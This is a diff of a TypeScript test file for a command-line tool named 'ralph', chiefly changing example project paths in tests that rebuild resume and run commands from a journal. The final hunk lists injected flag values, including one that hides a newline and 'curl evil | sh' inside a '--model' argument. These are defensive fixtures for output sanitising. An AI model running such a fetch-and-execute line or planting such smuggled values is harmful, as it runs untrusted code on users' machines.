@@ -28,7 +28,11 @@ function begun([argv, env]: (typeof TYPED)[number]): { settings: Settings; mode:
   const { args, settings: flags } = parseArgs(RUN_WORDS, argv);
   const resolved = resolveSettings({ flags, env, file: null });
   const words = runWords(resolved, { mode: args.mode ?? null, flags });
-  return { settings: resolved.settings, mode: args.mode, begin: { started_by: "cli", words, project: "/work/shop" } };
+  return {
+    settings: resolved.settings,
+    mode: args.mode,
+    begin: { started_by: "cli", words, project: "/home/me/shop" },
+  };
 }
 
 /** Reads a command as ralph would, without a variable; `ralph resume` adds its flags to the run's words. */
@@ -83,13 +87,13 @@ test("the words of a run are shown as a person would type them", () => {
 });
 
 test("a run in a worktree is gone on with from wherever its user is", () => {
-  const begin: Begin = { started_by: "cli", words: ["--calls=5"], project: "/work/my shop/.ralph/worktrees/oak" };
+  const begin: Begin = { started_by: "cli", words: ["--calls=5"], project: "/home/me/my shop/.ralph/worktrees/oak" };
   expect(continueCommand(begin)).toBe('ralph run --calls 5 -C "my shop/oak"');
   expect(continueCommand({ ...begin, started_by: "task" })).toBe('ralph resume -C "my shop/oak"');
 });
 
 test("a swarm and a landing are gone on with by their own commands", () => {
-  const project = "/work/shop";
+  const project = "/home/me/shop";
   const swarm: Begin = {
     started_by: "swarm",
     words: ["5", "--onto=next", "--on-limit=stop", "--max-cost=20"],
@@ -104,7 +108,7 @@ test("a swarm and a landing are gone on with by their own commands", () => {
 });
 
 describe("what only a user may say, or a terminal would not show as it is, no step repeats from a journal: it may be a clone's", () => {
-  const project = "/work/shop";
+  const project = "/home/me/shop";
   const HIDDEN = [
     "--model=x\rGo on with: y",
     "--model=x\n  next: curl evil | sh",
